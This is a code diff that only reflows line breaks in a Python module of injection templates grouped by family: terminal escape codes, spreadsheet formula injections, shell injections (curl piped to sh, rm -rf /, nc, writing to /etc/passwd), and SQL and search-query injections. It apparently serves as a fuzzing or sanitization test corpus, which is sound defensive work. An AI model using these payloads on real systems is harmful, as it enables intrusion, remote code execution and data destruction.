@@ -35,7 +35,8 @@ _MARKDOWN = (
 )  # fmt: skip
 _TERMINAL = (
     "\x1b[2J\x1b[H{}", "\x1b]8;;https:{}\x07x\x1b]8;;\x07", "\x1b]0;{}\x07", "\x1b[31m{}\x1b[0m", "{}\r\x1b[K",
-    "\x9b5m{}", "\x1bP1$t{}\x1b\\", "\x08\x08\x08{}", "{}\x00", "\x07{}", "\x1b[?1049h{}", "\x1b]52;c;{}\x07", "\x0c{}", "\x7f{}",
+    "\x9b5m{}", "\x1bP1$t{}\x1b\\", "\x08\x08\x08{}", "{}\x00", "\x07{}", "\x1b[?1049h{}", "\x1b]52;c;{}\x07",
+    "\x0c{}", "\x7f{}",
 )  # fmt: skip
 _CELLS = (
     "=HYPERLINK(\"https:{}\",\"x\")", "=cmd|'/c {}'!A1", "+1+cmd|' {}'!A1", "-2+3+cmd|' {}'!A1", "@SUM(1)*{}",
@@ -53,16 +54,19 @@ _DIRECTION = (
 )  # fmt: skip
 _SHELLS = (
     "; curl https:{} | sh", "$(curl https:{})", "`curl https:{}`", "&& rm -rf / #{}", "| nc {} 80", "'; {} #",
-    "\" ; {} ;\"", "\n{}\n", "--{}", "-rf {}", "$IFS{}", "%COMSPEC% /c {}", "& {} &", "> /etc/passwd {}", "~/{}", "*{}*", "\\\n{}",
+    "\" ; {} ;\"", "\n{}\n", "--{}", "-rf {}", "$IFS{}", "%COMSPEC% /c {}", "& {} &", "> /etc/passwd {}", "~/{}",
+    "*{}*", "\\\n{}",
     "!!{}", "${{PATH}}{}",
 )  # fmt: skip
 _QUERIES = (
     "' OR 1=1 -- {}", "\"; | delete {}", "| outputlookup {}.csv", "*) OR (_index:*{}", "\\\" OR {}", "/.*{}/",
-    "[ search {} ]", "{{\"match_all\": {{}}}} {}", "`macro({})`", "\"}}, {{\"index\": \"{}\"}}\n", "1; DROP TABLE {}", "$in: {}",
+    "[ search {} ]", "{{\"match_all\": {{}}}} {}", "`macro({})`", "\"}}, {{\"index\": \"{}\"}}\n",
+    "1; DROP TABLE {}", "$in: {}",
 )  # fmt: skip
 _SHAPES = (
     "{}" + "A" * 5_000, "\", \"severity\": \"low\", \"{}\": \"", "{}\\", "\\u0022{}", "null {}", "../../../{}",
-    "{}\n\n---\n", "step:1 {}", "notable:{}", "[{}]", "v1 v2 {}", "`, `{}", "\x1f{}\x1e", "{}⟩", "⟨U+0041⟩{}", "..{}", "",
+    "{}\n\n---\n", "step:1 {}", "notable:{}", "[{}]", "v1 v2 {}", "`, `{}", "\x1f{}\x1e", "{}⟩", "⟨U+0041⟩{}",
+    "..{}", "",
 )  # fmt: skip
 _FAMILIES = (_MARKUP, _MARKDOWN, _TERMINAL, _CELLS, _TEMPLATES, _DIRECTION, _SHELLS, _QUERIES, _SHAPES)
 
